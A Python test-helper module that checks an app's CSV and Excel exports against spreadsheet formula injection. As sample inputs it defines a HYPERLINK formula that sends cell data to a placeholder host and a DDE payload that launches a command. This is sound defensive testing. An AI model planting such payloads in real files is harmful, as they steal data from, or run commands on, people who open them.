"""What every CSV/Excel file Linli writes must satisfy: nothing a spreadsheet would run.

Opened with the csv module and openpyxl, as a spreadsheet would read them."""

from __future__ import annotations

import csv
from pathlib import Path

from openpyxl import load_workbook

LEADS = ("=", "+", "-", "@", "\t", "\r", "\n")
# Names and notes an attacker would type: each one a formula when a spreadsheet opens the file.
FORMULA_NAME = '=HYPERLINK("http://x/?"&F2,"a")'
FORMULA_NOTE = '+cmd|" /C calc"!A0'
FORMULA_TEXTS = (FORMULA_NAME, FORMULA_NOTE, "-2+3", "@SUM(A1:A9)")


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def assert_csv_safe(path: Path, *expected: str) -> list[str]:
    """No cell starts like a formula (numbers apart); each expected text is there, neutralised."""
    cells = csv_cells(path)
    bad = [c for c in cells if c.startswith(LEADS) and not _number(c)]
    assert not bad, f"{path.name}: cells a spreadsheet would run: {bad}"
    for text in expected:
        assert any(c == "'" + text or (c.startswith("'") and text in c) for c in cells), (text, cells)
    return cells


def assert_xlsx_safe(path: Path, *expected: str) -> list[object]:
    """No formula anywhere; text that starts like one is a text cell marked quote-prefixed; each expected
    text is there exactly as stored."""
    wb = load_workbook(path)
    values: list[object] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {ws.title}!{cell.coordinate} is a formula: {cell.value}"
                if isinstance(cell.value, str) and cell.value.startswith(LEADS):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                values.append(cell.value)
    for text in expected:
        assert text in values or any(isinstance(v, str) and text in v for v in values), (text, path.name)
    return values
